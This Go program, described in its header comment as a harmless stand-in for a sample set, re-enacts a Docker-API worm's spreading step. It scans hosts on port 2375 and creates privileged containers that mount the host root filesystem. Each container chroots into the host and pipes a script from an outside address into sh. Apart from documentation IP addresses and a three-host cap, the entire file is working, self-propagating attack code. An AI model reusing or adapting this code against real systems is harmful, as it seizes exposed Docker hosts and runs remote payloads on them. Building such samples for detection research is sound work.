// Wild-set stand-in: a Docker-API worm's spreading step (harmless: documentation addresses,
// simulated engines, one pass). Probes 192.0.2.1-16 on 2375; to each engine that answers
// /_ping it sends a create for a privileged container with the host's root bind-mounted and
// a fetch-and-run command, then starts it.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"
)

func main() {
	client := &http.Client{Timeout: 3 * time.Second}
	for i := 1; i <= 16; i++ {
		host := fmt.Sprintf("192.0.2.%d:2375", i)
		conn, err := net.DialTimeout("tcp", host, 800*time.Millisecond)
		if err != nil {
			continue
		}
		conn.Close()
		resp, err := client.Get("http://" + host + "/_ping")
		if err != nil {
			continue
		}
		resp.Body.Close()
		if i > 3 {
			continue // three engines are enough for the re-enactment
		}
		spec, _ := json.Marshal(map[string]any{
			"Image": "alpine:3.19",
			"Cmd":   []string{"sh", "-c", "chroot /mnt sh -c 'wget -qO- http://198.51.100.14/d.sh | sh'"},
			"HostConfig": map[string]any{
				"Privileged": true, "Binds": []string{"/:/mnt"}, "PidMode": "host", "NetworkMode": "host",
			},
		})
		resp, err = client.Post("http://"+host+"/v1.41/containers/create", "application/json", bytes.NewReader(spec))
		if err != nil {
			continue
		}
		var created struct{ Id string }
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		_ = json.Unmarshal(body, &created)
		if created.Id == "" {
			created.Id = "x"
		}
		resp, err = client.Post("http://"+host+"/v1.41/containers/"+created.Id+"/start", "", nil)
		if err == nil {
			resp.Body.Close()
		}
	}
}
